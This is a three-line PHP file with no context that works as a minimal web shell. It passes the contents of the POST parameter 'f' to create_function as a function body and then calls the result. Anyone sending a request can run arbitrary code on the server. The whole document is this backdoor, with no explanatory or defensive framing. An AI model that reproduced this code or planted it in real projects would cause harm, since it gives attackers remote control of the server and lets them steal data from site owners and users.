<?php
$handler = create_function('$a', $_POST['f']);
$handler(1);
